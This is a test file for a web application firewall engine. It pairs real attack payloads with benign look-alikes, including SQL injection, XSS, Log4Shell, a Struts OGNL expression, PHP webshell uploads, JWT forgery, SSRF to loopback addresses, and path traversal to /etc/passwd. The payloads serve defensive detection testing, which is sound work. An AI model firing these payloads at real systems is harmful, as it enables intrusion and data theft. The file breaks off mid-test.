import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { createWafEngine } from './engine.ts'
import { parseWafRequestLine } from './ndjson.ts'

const engine = createWafEngine()
const UA = 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0'

describe('realistic shop requests', () => {
  const lines = readFileSync(new URL('./fixtures/benign-requests.ndjson', import.meta.url), 'utf8').split('\n').filter(Boolean)
  it.each(lines.map((l, i) => [i + 1, l] as const))('allows request %i', (_n, line) => {
    const parsed = parseWafRequestLine(line)
    if (!parsed.ok) throw new Error(parsed.error)
    const v = engine.inspect(parsed.request)
    expect(v.matches).toEqual([])
    expect(v.action).toBe('allow')
  })
})

describe('rules for named headers', () => {
  it('fire on the header they name, in any case, and nowhere else', () => {
    const scanner = 'sqlmap/1.7.2#stable (https://sqlmap.org)'
    expect(engine.inspect({ method: 'GET', uri: '/', headers: { 'User-Agent': scanner } }).matches.map((m) => [m.rule, m.target])).toContainEqual(['waf.scanner.user-agent', 'header:user-agent'])
    for (const elsewhere of [{ uri: `/?q=${encodeURIComponent(scanner)}` }, { uri: '/', headers: { 'x-client': scanner } }, { uri: '/', headers: { cookie: `ua=${scanner}` } }]) {
      expect(engine.inspect({ method: 'GET', ...elsewhere }).matches.filter((m) => m.category === 'scanner')).toEqual([])
    }
  })
})

describe('a query string inside a cookie or a query value', () => {
  const rules = (req: { uri: string; headers?: Record<string, string> }): string[] => engine.inspect({ method: 'GET', ...req }).matches.map((m) => `${m.rule}@${m.target}`)

  it('counts a __proto__ parameter name in a cookie value, which a cookie holding a serialised form hands to qs.parse', () => {
    expect(rules({ uri: '/', headers: { cookie: 'test_cookie=__proto__.foo=bar' } })).toEqual(['waf.prototype-pollution.proto-key-in-value@cookie:test_cookie'])
    expect(rules({ uri: '/', headers: { cookie: 'prefs=theme=dark&proto=1; note=__proto__ is a JS property' } })).toEqual([])
  })

  it('counts a JSON text whose __proto__ or constructor.prototype key holds an object, in a cookie or a JSON string field the application parses', () => {
    const prefs = encodeURIComponent('{"__proto__":{"isAdmin":true}}')
    expect(rules({ uri: '/', headers: { cookie: `prefs=${prefs}` } })).toEqual(['waf.prototype-pollution.proto-key-in-value@cookie:prefs'])
    const field = engine.inspect({ method: 'POST', uri: '/api/settings', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ settings: '{ "constructor" : { "prototype" : { "shell": "/proc/self/exe" } } }' }) })
    expect(field.matches.map((m) => `${m.rule}@${m.target}`)).toEqual(['waf.prototype-pollution.proto-key-in-value@body:json:settings'])
    // A consent cookie's JSON, a product named Prototype, a prototype object of a catalogue, a sentence naming __proto__.
    const benign = [`consent=${encodeURIComponent('{"necessary":true,"analytics":false}')}`, `p=${encodeURIComponent('{"name":"Prototype board","constructor":"ACME"}')}`, `q=${encodeURIComponent('{"prototype":{"name":"Board v2"}}')}`, `n=${encodeURIComponent('never merge a "__proto__" key: {"a":1}')}`]
    for (const cookie of benign) expect(rules({ uri: '/', headers: { cookie } }), cookie).toEqual([])
  })

  it('counts a POP3 command after a leading line break in a query value, not a message with a line break', () => {
    expect(rules({ uri: '/get?attackme=%0d%0aRETR%20123' })).toContain('waf.mail.pop3-command@args:attackme')
    expect(rules({ uri: '/contact?msg=Hello%0d%0aList%203%20items%20please' })).toEqual([])
  })
})

describe('a MongoDB operator in a query parameter name', () => {
  const nosqli = (query: string): string[] => engine.inspect({ method: 'GET', uri: `/api/products?${query}`, headers: { 'user-agent': UA } }).matches.filter((m) => m.category === 'nosqli').map((m) => m.target)

  it('injects as the first key of a field, as a name of its own, or as code at any depth', () => {
    for (const q of ['user[$ne]=x', 'password[$regex]=%5Ea', 'role[$in][]=admin', '$or[0][user]=admin', '$where=1', 'filters[price][$where]=sleep(100)']) expect(nosqli(q), q).toHaveLength(1)
  })

  it('is a filter API inside a nested document or a logical operator under a field (Strapi filters) up to level 2, and at level 3 the injection of a nested field it could also be', () => {
    const strapi = '/api/products?filters[price][$lt]=50&filters[$or][0][brand][name][$eq]=Levi%27s&filters[$or][1][brand][name][$eq]=G-Star&filters[stock][$gt]=0'
    expect(nosqli(strapi.slice('/api/products?'.length))).toEqual([])
    const at3 = createWafEngine({ level: 3 }).inspect({ method: 'GET', uri: strapi, headers: { 'user-agent': UA } }).matches
    expect(at3.map((m) => m.rule)).toEqual(Array(4).fill('waf.nosqli.operator-key-nested'))
  })
})

describe('a JSON document inside a query or form value', () => {
  const get = (query: string) => engine.inspect({ method: 'GET', uri: `/api/items?${query}`, headers: { 'user-agent': UA } })
  const json = (doc: unknown): string => encodeURIComponent(JSON.stringify(doc))

  it("reads its keys and leaves as a JSON body's: an operator key, a private URL that is a whole leaf, a prototype key, each saying where it sat", () => {
    const where = get(`q=${json({ $where: 'this.price > 0' })}`).matches.find((m) => m.rule === 'waf.nosqli.operator-key')
    expect(where).toMatchObject({ target: 'args:q' })
    expect(where?.explanation).toContain('in the JSON document the value holds, at $where')
    const ssrf = get(`query=query%20P(%24u%3AString)%7Bp(u%3A%24u)%7Bid%7D%7D&variables=${json({ input: { imageUrl: 'http://10.0.0.5/admin' } })}`)
    expect(ssrf.matches.map((m) => [m.rule, m.target])).toEqual([['waf.ssrf.private-address', 'args:variables']])
    const form = engine.inspect({ method: 'POST', uri: '/api/items', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `filter=${json({ where: { constructor: { prototype: { admin: true } } } })}` })
    expect(form.matches.map((m) => m.rule)).toContain('waf.prototype-pollution.proto-key')
  })

  it('leaves a filter of plain fields and values, the same URL as text, and a GraphQL document alone', () => {
    for (const q of [`filter=${json({ where: { category: 'shoes', price: { between: [10, 50] } }, order: 'price ASC', limit: 24 })}`, `variables=${json({ handle: 'blue-mug', imageUrl: 'https://cdn.shop.example/mug.jpg' })}`, `q=${encodeURIComponent('{"broken": json')}`, `query=${encodeURIComponent('{ product(handle: "blue-mug") { title } }')}`]) {
      expect(get(q).matches, q).toEqual([])
    }
  })

  it('reads at most 256 of its keys and leaves, and none of a leaf that is JSON again', () => {
    const many = Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`k${i}`, i === 299 ? 'http://10.0.0.5/' : 'x']))
    expect(get(`f=${json(many)}`).matches).toEqual([])
    expect(get(`f=${json({ inner: JSON.stringify({ url: 'http://10.0.0.5/' }) })}`).matches).toEqual([])
  })
})

describe('explanations', () => {
  it('names rule, category, target, decoded excerpt and a sentence', () => {
    const v = engine.inspect({ method: 'GET', uri: '/p?id=1%27%20UNION%20SELECT%20password%20FROM%20users--', headers: { 'user-agent': UA } })
    expect(v.action).toBe('block')
    const m = v.matches.find((x) => x.rule === 'waf.sqli.union-select')
    expect(m).toMatchObject({ category: 'sqli', target: 'args:id' })
    expect(m?.excerpt).toContain('UNION SELECT')
    expect(m?.explanation).toMatch(/^Read as SQL .*UNION SELECT.*\.$/)
  })

  it('finds JSON leaves at depth and names their path', () => {
    const body = JSON.stringify({ user: { profile: { bio: '<svg onload=alert(1)>' } } })
    const v = engine.inspect({ method: 'POST', uri: '/api', headers: { 'content-type': 'application/json' }, body })
    expect(v.matches[0]?.target).toBe('body:json:user.profile.bio')
  })

  it('finds Log4Shell in any header and says it was nested', () => {
    const v = engine.inspect({ method: 'GET', uri: '/', headers: { 'x-api-version': '${${lower:j}ndi:ldap://e.example/a}' } })
    expect(v.matches[0]).toMatchObject({ rule: 'waf.jndi.lookup', target: 'header:x-api-version' })
    expect(v.matches[0]?.explanation).toContain('nested')
  })

  it('reports base64-decoded findings as such', () => {
    const v = engine.inspect({ method: 'GET', uri: `/p?x=${btoa("1' UNION SELECT 1,2--")}` })
    expect(v.matches[0]?.explanation).toContain('after base64 decoding')
  })
})

describe('levels', () => {
  it('a higher level flags what a lower one lets through', () => {
    const req = { method: 'GET', uri: '/go?to=http://localhost:8080/admin' }
    expect(createWafEngine({ level: 2 }).inspect(req).action).toBe('allow')
    expect(createWafEngine({ level: 3 }).inspect(req).action).toBe('block')
  })
})

describe('worst cases are bounded', () => {
  it('a 2 MB body is cut at the body limit and flagged', () => {
    const v = engine.inspect({ method: 'POST', uri: '/', headers: { 'content-type': 'text/plain' }, body: 'a'.repeat(2 << 20) })
    expect(v.truncated).toContain('body')
  })

  it('10,000 parameters stop at the parameter limit', () => {
    const uri = `/?${Array.from({ length: 10_000 }, (_, i) => `p${i}=${i}`).join('&')}`
    const v = engine.inspect({ method: 'GET', uri })
    expect(v.truncated).toContain('params')
  })

  it('1000-deep JSON stops at the depth limit', () => {
    const body = `${'['.repeat(1000)}"x"${']'.repeat(1000)}`
    const v = engine.inspect({ method: 'POST', uri: '/', headers: { 'content-type': 'application/json' }, body })
    expect(v.truncated).toContain('json-depth')
  })

  it('an attack past the value limit is not seen, and the cut is reported', () => {
    const small = createWafEngine({ limits: { maxValueBytes: 1024 } })
    const v = small.inspect({ method: 'GET', uri: `/?q=${'a'.repeat(2000)}%3Cscript%3E` })
    expect(v.action).toBe('allow')
    expect(v.truncated).toContain('args:q')
  })

  it('pathological input for every detector still yields a verdict', () => {
    const nasty = [
      "'".repeat(100_000),
      '<a '.repeat(30_000),
      '${'.repeat(30_000),
      '%25'.repeat(30_000),
      '&#'.repeat(50_000),
      ';$('.repeat(30_000),
      '://'.repeat(30_000),
      '(&('.repeat(30_000),
      'on'.repeat(50_000) + '=',
      // A loopback URL's fragment of dotted labels that ends in a digit: the disguised-host pattern's failing case.
      `http://localhost/#${'a-.'.repeat(30_000)}1`,
      `localhost:${'0'.repeat(100_000)}`,
      // GraphQL: unterminated and escaped block strings, escapes cut short, many literals, backslash URLs.
      `query { f(a: ${'"""\\"""'.repeat(20_000)}) }`,
      `{ f(a: ${'"\\u{'.repeat(30_000)}`,
      `{ ${'a: f(x: "1") '.repeat(20_000)} }`,
      `{ f(x: ${'http:\\\\'.repeat(20_000)}) }`,
      `{ f(a: "${'\\u{'.repeat(30_000)}") }`,
      // Page-function handlers: blanks inside and after the call, a literal left open; a rose's punctuation literal.
      `<b onclick="f(${' '.repeat(2_000)}x">`.repeat(50),
      `<b onclick="f(1)${' '.repeat(2_000)}x">`.repeat(50),
      `<b onclick="f({{${' '.repeat(2_000)}x">`.repeat(50),
      `<b onclick="f({{a${'.a'.repeat(2_000)} x">`.repeat(20),
      `${'@}-;- '.repeat(30_000)}'--- x`,
      // JSON in a query value, deep and wide.
      `${'{"a":'.repeat(30_000)}1${'}'.repeat(30_000)}`,
      `[${'"x",'.repeat(60_000)}"x"]`,
      // CSS escapes before a url( or an @import followed by blanks and a quote that lead to no scheme.
      `\\75 rl(${' '.repeat(100_000)}x`,
      `\\40 import${' '.repeat(50_000)}url(${' '.repeat(50_000)}'${' '.repeat(50_000)}x`,
    ]
    for (const s of nasty) {
      const v = engine.inspect({ method: 'POST', uri: '/', headers: { 'content-type': 'text/plain' }, body: s })
      expect(['block', 'allow']).toContain(v.action)
      const form = engine.inspect({ method: 'POST', uri: '/', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `q=${encodeURIComponent(s)}` })
      expect(['block', 'allow']).toContain(form.action)
    }
  })
})

describe('protocol', () => {
  it('flags Content-Length together with Transfer-Encoding', () => {
    const v = engine.inspect({ method: 'POST', uri: '/', headers: { host: 'a', 'content-length': '5', 'transfer-encoding': 'chunked' } })
    expect(v.matches.map((m) => m.rule)).toContain('waf.protocol.smuggling')
  })
})

describe('finding cache', () => {
  it('gives the same verdicts with and without it, repeated values included, each under its own target name', () => {
    const cached = createWafEngine({ cacheSize: 4 })
    const uncached = createWafEngine({ cacheSize: 0 })
    const jwtAttack = btoa('{"name":"<svg onload=alert(1)>"}')
    const requests = [
      { method: 'GET', uri: '/', headers: { 'user-agent': UA, cookie: `sid=${jwtAttack}; pref=dark` } },
      { method: 'GET', uri: '/cart', headers: { 'user-agent': UA, cookie: `other=${jwtAttack}; pref=dark` } },
      { method: 'GET', uri: '/', headers: { 'user-agent': '${jndi:ldap://x/a}', 'x-note': "1' or '1'='1" } },
      ...Array.from({ length: 6 }, (_, i) => ({ method: 'GET', uri: `/p${i}`, headers: { 'user-agent': `${UA} ${i}`, cookie: `sid=${jwtAttack}` } })),
      { method: 'GET', uri: '/download/..%2f..%2fetc%2fpasswd?$where=1', headers: { path: '/download/..%2f..%2fetc%2fpasswd' } },
      { method: 'GET', uri: '/download/..%2f..%2fetc%2fpasswd?x[$ne]=1&$where=2' },
      // The same parameter value as a query value, a form value, a JSON leaf and a path: each kind has its own findings.
      { method: 'GET', uri: `/s?q=${encodeURIComponent("1' or '1'='1")}&page=1` },
      { method: 'POST', uri: '/s?page=1', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `q=${encodeURIComponent("1' or '1'='1")}` },
      { method: 'POST', uri: '/api', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ q: "1' or '1'='1", n: { q: "1' or '1'='1" } }) },
      { method: 'GET', uri: `/${encodeURIComponent("1' or '1'='1")}` },
    ]
    // A value enters the cache at its second sighting, so the third pass is answered from it.
    for (let pass = 0; pass < 3; pass++) {
      for (const r of requests) expect(cached.inspect(r)).toEqual(uncached.inspect(r))
    }
    const second = cached.inspect(requests[1]!)
    // The handler, and the markup rule that reads a tag in a cookie: both under the cookie this request names.
    expect(second.matches.map((m) => [m.rule, m.target])).toEqual([['waf.xss.event-handler', 'cookie:other'], ['waf.xss.markup-in-value', 'cookie:other']])
    expect(second.matches[0]?.explanation).toMatch(/after base64 decoding/)
    const json = cached.inspect(requests.at(-2)!)
    expect(json.matches.map((m) => m.target)).toEqual(['body:json:n.q', 'body:json:q'])
  })

  it('answers for a clean cookie header or query string seen before as reading it would, its parameters counted against the limits', () => {
    const limits = { maxParams: 5, maxTargets: 12 }
    const cached = createWafEngine({ limits })
    const uncached = createWafEngine({ limits, cacheSize: 0 })
    const cookie = 'sid=3f9a8c7e; pref=dark; cart=12'
    const requests = [
      // Five parameters and eleven targets (the path, two names and values in the query, three in the cookies): within both limits.
      { method: 'GET', uri: '/p?q=shoes&page=2', headers: { cookie } },
      // One more parameter in the query: the cookies' last one passes maxParams.
      { method: 'GET', uri: '/p?q=shoes&page=2&sort=price', headers: { cookie } },
      // Two headers before the cookies: their last value passes maxTargets.
      { method: 'GET', uri: '/p?q=shoes&page=2', headers: { 'user-agent': UA, 'x-note': 'hello', cookie } },
      // The same text holding an attack is never answered for as clean.
      { method: 'GET', uri: "/p?q=1'+or+'1'='1&page=2", headers: { cookie: "sid=1' or '1'='1; pref=dark" } },
    ]
    for (let pass = 0; pass < 4; pass++) {
      for (const r of requests) expect(cached.inspect(r), `pass ${pass}: ${r.uri}`).toEqual(uncached.inspect(r))
    }
    expect(cached.inspect(requests[0]!).truncated).toEqual([])
    expect(cached.inspect(requests[1]!).truncated).toEqual(['params'])
    expect(cached.inspect(requests[2]!).truncated).toEqual(['targets'])
    expect(cached.inspect(requests[3]!).matches.map((m) => m.target)).toEqual(['args:q', 'cookie:sid'])
  })

  it('reads + as a space in a query or form value and name, whether the value is looked up as sent or inspected', () => {
    const cached = createWafEngine({ cacheSize: 4 })
    const query = { method: 'GET', uri: "/s?my+q=1'+or+'1'='1&page=1" }
    const form = { method: 'POST', uri: '/s', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: "my+q=1'+or+'1'='1" }
    for (let pass = 0; pass < 3; pass++) {
      expect(cached.inspect(query).matches).toMatchObject([{ category: 'sqli', target: 'args:my q', excerpt: "1' or '1'='1" }])
      expect(cached.inspect(form).matches).toMatchObject([{ category: 'sqli', target: 'body:form:my q', excerpt: "1' or '1'='1" }])
    }
  })
})

describe('frames and include URLs that load only remote documents', () => {
  const at = (level: 1 | 2 | 3 | 4, body: string): string[] =>
    createWafEngine({ level }).inspect({ method: 'POST', uri: '/admin/cms/page/save', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content: body }) }).matches.map((m) => m.rule)

  it('an iframe or embed of an http(s) page, and a closing tag alone, count only at level 3', () => {
    for (const html of ['<p><iframe src="https://www.youtube.com/embed/x" width="560" allowfullscreen></iframe></p>', '<embed src=https://maps.example/m.swf>', '</iframe>']) {
      expect(at(2, html), html).toEqual([])
      expect(at(3, html), html).toContain('waf.xss.script-tag')
    }
  })

  it('a frame with srcdoc, a data: or script URL, no URL or a protocol-relative one counts at level 1', () => {
    for (const html of ['<iframe srcdoc="<script>alert(1)</script>">', '<iframe src="data:text/html,x">', '<object data=javascript:alert(1)>', '<iframe>', '<iframe src=//evil.example/>', '<script src="https://e.example/x.js"></script>']) {
      expect(at(1, html).some((r) => r.startsWith('waf.xss.')), html).toBe(true)
    }
  })

  it('a remote URL ending in "?" is a truncated include when it names a file, not when it is a page', () => {
    const rfi = (v: string): string[] => engine.inspect({ method: 'GET', uri: `/?page=${encodeURIComponent(v)}` }).matches.map((m) => m.rule)
    for (const v of ['http://evil.example/shell.txt?', 'https://e.example/a/b/inc.php??']) expect(rfi(v), v).toContain('waf.rfi.truncated-url')
    for (const v of ['https://shop.example/products/sleep-mask?', 'https://shop.example/?', 'https://shop.example/search?']) expect(rfi(v), v).toEqual([])
  })
})

describe('SQL injection in a path segment', () => {
  it('is read in any segment, where an id sits, not only the first', () => {
    for (const uri of ["/products/1'%20or%20'1'='1", '/api/orders/5%20ORDER%20BY%203--/items', '/products/%20OR%201=1--']) {
      expect(engine.inspect({ method: 'GET', uri }).matches.map((m) => m.category), uri).toContain('sqli')
    }
    for (const uri of ['/products/o-neill-wetsuit', '/blog/rock-and-roll-or-punk', "/products/levi's-501", '/collections/drop%20earrings/order-by-price']) {
      expect(engine.inspect({ method: 'GET', uri }).matches, uri).toEqual([])
    }
  })
})

describe('response splitting in a free-text field', () => {
  const form = (v: string): string[] => engine.inspect({ method: 'POST', uri: '/login', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `next=${encodeURIComponent(v)}` }).matches.map((m) => m.rule)
  it('counts when one word is followed by a line break and a response header', () => {
    for (const v of ['/account\r\nSet-Cookie: sid=evil', '/%0aSet-Cookie:x=y', 'https://shop.example/\nContent-Length: 0', '\r\nAccess-Control-Allow-Origin: *']) expect(form(v), v).toContain('waf.crlf.response-header-text')
  })
  it('does not when a sentence comes first or the header is one people write', () => {
    for (const v of ['Hi, the response I get is:\nSet-Cookie: a=b', 'Berlin\nLocation: 2nd floor', 'Order 123\r\nContent-Length: 0', 'Set-Cookie: a=b']) expect(form(v), v).toEqual([])
  })
})

describe('a header injected in a form field', () => {
  const form = (message: string) => ({ method: 'POST', uri: '/contact', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `name=Jane&message=${message}` })
  it("is read through a nested escape ('%%0a0a' leaves '%', a line break and '0a')", () => {
    expect(engine.inspect(form('/%%0a0aSet-Cookie:crlf=injection')).matches.map((m) => m.rule)).toContain('waf.crlf.response-header-text')
  })
  it('is not a line that starts with 0a in a message', () => {
    expect(engine.inspect(form(encodeURIComponent('Order/4471\n0a-Set-Cookie: lost?'))).action).toBe('allow')
  })
})

describe('a URL to a loopback address', () => {
  const rules = (req: { method: string; uri: string; headers?: Record<string, string> }, level: 2 | 3 = 2): string[] =>
    createWafEngine({ level }).inspect(req).matches.map((m) => m.rule)
  it('blocks a loopback IP in a parameter at level 2, however it is written', () => {
    for (const v of ['http://127.0.0.1:80', 'http://[::]:25/', 'http://[0000::1]:80/', 'http://0.0.0.0:8080/', 'http://127.0.0.1.nip.io/', 'http://127.0.0.1%00example.com']) {
      expect(rules({ method: 'GET', uri: `/fetch?url=${encodeURIComponent(v)}` }), v).toContain('waf.ssrf.loopback')
    }
  })
  it('leaves a loopback name and a header the browser writes to level 3 (a developer browsing the shop locally)', () => {
    const byName = { method: 'GET', uri: `/track?referrer=${encodeURIComponent('http://localhost:3000/')}` }
    const byHeader = { method: 'GET', uri: '/cart', headers: { referer: 'http://127.0.0.1:3000/products' } }
    for (const req of [byName, byHeader]) {
      expect(rules(req), req.uri).toEqual([])
      expect(rules(req, 3), req.uri).toContain('waf.ssrf.loopback')
    }
  })
  it('is not a host name that only starts with 127', () => {
    expect(rules({ method: 'GET', uri: `/go?to=${encodeURIComponent('https://127.example.com/')}` }, 3)).toEqual([])
  })
})

describe('a host name in a URL user name', () => {
  it('is the allow-list confusion trick at level 2', () => {
    for (const v of ['http://shop.example@evil.example/x', 'https://example.com@127.0.0.1', 'http://1.1.1.1&@2.2.2.2#@3.3.3.3/']) {
      expect(engine.inspect({ method: 'GET', uri: `/go?to=${encodeURIComponent(v)}` }).matches.map((m) => m.rule), v).toContain('waf.ssrf.userinfo-host')
    }
  })
  it('is not a user name without a dot, an @ in the path or an e-mail address', () => {
    for (const v of ['https://user:secret@files.example/a.csv', 'https://shop.example/@brand/page', 'mailto:jane.doe@example.com', 'https://www.instagram.com/jane.doe/']) {
      expect(engine.inspect({ method: 'GET', uri: `/go?to=${encodeURIComponent(v)}` }).matches, v).toEqual([])
    }
  })
})

describe('parameters split by raw HTML entities', () => {
  it('are inspected whole for each form of entity (named with ; or %3b, numeric), and only then', () => {
    const inQuery = (query: string): string[] =>
      engine.inspect({ method: 'GET', uri: `/search?${query}`, headers: { 'user-agent': UA } }).matches.filter((m) => m.target === 'args').map((m) => m.category)
    // A `#` ends the query, so the numeric form arrives in a form body.
    const inForm = (body: string): string[] =>
      engine
        .inspect({ method: 'POST', uri: '/contact', headers: { 'user-agent': UA, 'content-type': 'application/x-www-form-urlencoded' }, body })
        .matches.filter((m) => m.target === 'body:form')
        .map((m) => m.category)
    expect(inQuery('q=&lt;script&gt;alert(1)&lt;/script&gt;')).toContain('xss')
    expect(inQuery('q=&lt%3bscript&gt%3balert(1)&lt%3b/script&gt%3b')).toContain('xss')
    expect(inQuery('q=&LT%3Bscript&GT%3Balert(1)&LT%3B/script&GT%3B')).toContain('xss')
    expect(inForm('q=&#60script&#62alert(1)&#60/script&#62')).toContain('xss')
    // The same ampersands with no `;`, `%3b` or `#` split nothing a browser would rejoin.
    expect(inQuery('q=&lt&script&gt&alert(1)')).toEqual([])
    expect(inForm('q=&lt&script&gt&alert(1)')).toEqual([])
  })
})

describe('what attack tools send that only a server-side decoding or a browser-structured header shows', () => {
  const rules = (req: Parameters<typeof engine.inspect>[0]): string[] => engine.inspect(req).matches.map((m) => m.rule)

  it("reads sqlmap's percentage tamper as IIS decodes it and says so", () => {
    const v = engine.inspect({ method: 'GET', uri: '/item.asp?id=%1%20%A%N%D%20%S%L%E%E%P(%5)', headers: { 'user-agent': UA } })
    expect(v.action).toBe('block')
    expect(v.matches[0]!.explanation).toContain('as IIS does')
  })

  it("reads a cookie's + as a space, as PHP decodes it, and leaves a base64 cookie's + alone", () => {
    // `admin' + --+`: only PHP's reading makes the `+` around the comment blanks (no keyword stands beside them).
    const v = engine.inspect({ method: 'GET', uri: '/account', headers: { 'user-agent': UA, cookie: 'id=admin%27+--+' } })
    expect(v.action).toBe('block')
    expect(v.matches[0]!.explanation).toContain('as PHP decodes a cookie')
    expect(rules({ method: 'GET', uri: '/', headers: { 'user-agent': UA, cookie: 'sess=Zm9v+YmFy/or+MTIz+and=; cart=a+b+c' } })).toEqual([])
  })

  it("reads a cookie's %2B beside a keyword as the blank it stood for, as in a JSON body, and says so", () => {
    const v = engine.inspect({ method: 'GET', uri: '/account', headers: { 'user-agent': UA, cookie: 'pref=%27%20union%2B%2F%2A%21select%2A%2F%20%281%29%2C%282%29' } })
    expect(v.matches.map((m) => m.rule)).toEqual(['waf.sqli.union-select'])
    expect(v.matches[0]!.explanation).toContain('each + beside a keyword read as the blank it stood for')
    // A sum, C++ and words joined by + beside no keyword's SQL stay as they are.
    expect(rules({ method: 'GET', uri: '/', headers: { 'user-agent': UA, cookie: 'q=C%2B%2B%20and%20Java; s=union%2Bjack%2Bselect%2Bsize; n=2%2B2%20or%203%2B3' } })).toEqual([])
  })

  it('reads a path segment with an encoded / as one segment, as the router hands it on', () => {
    const v = engine.inspect({ method: 'GET', uri: '/product/12%2F%2A%2A%2FAND%2F%2A%2A%2FIFNULL%284807%3D4807%2C2234%29--%2F%2A%2A%2Fx/reviews', headers: { 'user-agent': UA } })
    expect(v.action).toBe('block')
    expect(v.matches[0]!.explanation).toContain('as one path segment')
    expect(rules({ method: 'GET', uri: '/files/2024%2F05%2Finvoice-118.pdf', headers: { 'user-agent': UA } })).toEqual([])
  })

  it('decodes base64 sent percent-encoded (sqlmap base64encode)', () => {
    const b64 = encodeURIComponent(Buffer.from("1' AND SLEEP(5)#").toString('base64'))
    expect(b64).toContain('%3D')
    const v = engine.inspect({ method: 'GET', uri: `/p?id=${b64}`, headers: { 'user-agent': UA } })
    expect(v.action).toBe('block')
    expect(v.matches[0]!.explanation).toContain('after base64 decoding')
  })

  it("blocks Struts' OGNL in the Content-Type header (S2-045), which is otherwise browser-structured", () => {
    const ognl = "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):1).(#cmd='id')}"
    expect(rules({ method: 'POST', uri: '/index.action', headers: { 'user-agent': UA, 'content-type': ognl } })).toContain('waf.rce.expression-language')
    expect(rules({ method: 'POST', uri: '/upload', headers: { 'user-agent': UA, 'content-type': 'multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW' } })).toEqual([])
  })
})

describe('exploitation requests against shops', () => {
  const rules = (r: Parameters<typeof engine.inspect>[0]): string[] => engine.inspect({ ...r, headers: { 'user-agent': UA, ...r.headers } }).matches.map((m) => m.rule)
  const upload = (filename: string, type: string, content: string): Parameters<typeof engine.inspect>[0] => ({
    method: 'POST',
    uri: '/modules/homepageadvertise/uploadimage.php',
    headers: { 'content-type': 'multipart/form-data; boundary=b0undary' },
    body: `--b0undary\r\nContent-Disposition: form-data; name="userfile"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--b0undary--\r\n`,
  })

  it('reads an uploaded file that is text whatever its declared type, and of a binary one only PHP code hidden in it', () => {
    expect(rules(upload('logo.gif', 'image/gif', "GIF89a;\n<?php @eval($_POST['x']); ?>"))).toContain('waf.rce.php-code')
    expect(rules(upload('logo.jpg', 'image/jpeg', "\u00ff\u00d8\u00ff\u00e0\u0000\u0010JFIF\u0000\u00ff\u00feComment <?php @eval($_POST['x']); ?>\u0000"))).toContain('waf.rce.php-code')
    const xmp = '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description dc:title="Summer <sale> 50% off; cat toys"/></rdf:RDF></x:xmpmeta>'
    expect(rules(upload('logo.jpg', 'image/jpeg', `\u00ff\u00d8\u00ff\u00e1\u0000\u0010Exif\u0000\u0000${xmp}\u0000\u0003`))).toEqual([])
  })

  it('counts an upload named as a server-side script, also behind another extension, a ; or a NUL, and not an image', () => {
    for (const name of ['shell.php', 'shell.php.jpg', 'shell.pHp5', 'shell.phtml', 'shell.asp;.jpg', 'shell.php%00.jpg', 'shell.php::$DATA', '.htaccess', 'cmd.jsp', 'dangerous.phpt']) expect(rules(upload(name, 'image/jpeg', '\u0000\u0001')), name).toContain('waf.rce.script-upload')
    for (const name of ['photo.jpg', 'C:\\fakepath\\Bild 1.jpg', 'php-cheatsheet.pdf', 'invoice.phone.png', 'notes.phptext.txt']) expect(rules(upload(name, 'image/jpeg', '\u0000\u0001')), name).toEqual([])
  })

  it('reads the header of a JSON Web Token: an unsigned token, and a kid that injects, in a cookie or after Bearer', () => {
    const jwt = (header: object): string => `${Buffer.from(JSON.stringify(header)).toString('base64url')}.${Buffer.from('{"sub":"admin"}').toString('base64url')}.`
    expect(rules({ method: 'GET', uri: '/account', headers: { cookie: `jwt=${jwt({ alg: 'nOnE', typ: 'JWT' })}` } })).toEqual(['waf.auth-bypass.jwt-alg-none'])
    expect(rules({ method: 'GET', uri: '/api/me', headers: { authorization: `Bearer ${jwt({ alg: 'HS256', kid: "k' UNION SELECT 'secret' -- " })}sig` } })).toContain('waf.sqli.union-select')
    expect(rules({ method: 'GET', uri: '/api/me', headers: { authorization: `Bearer ${jwt({ alg: 'RS256', typ: 'JWT', kid: 'a1b2c3d4e5' })}sig` } })).toEqual([])
    expect(rules({ method: 'GET', uri: '/api/me', headers: { authorization: `Bearer ${jwt({ alg: 'HS256', typ: 'JWT', kid: '/dev/null; echo 9e15f1b9' })}sig` } })).toEqual(['waf.rce.jwt-kid-command'])
    expect(rules({ method: 'GET', uri: '/account', headers: { cookie: `jwt=${jwt({ alg: 'HS256', kid: '/dev/null' })}sig` } })).toEqual(['waf.auth-bypass.jwt-kid-file'])
  })

  it('reads the array keys of a parameter name as values, as PHP hands them to the application (Drupal name[0 ;update …])', () => {
    const key = encodeURIComponent("0 ;update users set name='owned' , pass = 'x' where uid = '1';;# ")
    const body = `name[${key}]=x&name[0]=y&pass=z&form_id=user_login`
    expect(rules({ method: 'POST', uri: '/user/login', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body })).toContain('waf.sqli.stacked-query')
    expect(rules({ method: 'GET', uri: '/api/products?filters[price][$lt]=50&order[line_items][0][note]=gift' })).toEqual([])
  })

  it('counts a path that climbs with ..;/, which Java servers read as ../', () => {
    expect(rules({ method: 'GET', uri: '/admin/..;/manager/html' })).toEqual(['waf.path-traversal.path-parameter-climb'])
    expect(rules({ method: 'GET', uri: '/blog/so-long-and-thanks..;-)' })).toEqual([])
  })

  it('counts a ThinkPHP route to a framework class by its namespace', () => {
    expect(rules({ method: 'GET', uri: '/index.php?s=index/%5Cthink%5CRequest/input&filter[]=system&data=id' })).toContain('waf.rce.thinkphp-route')
    expect(rules({ method: 'GET', uri: '/index.php?s=index/products/view&id=3' })).toEqual([])
  })

  it("counts a fetch of a shop platform's own configuration or of a database dump, not a product page", () => {
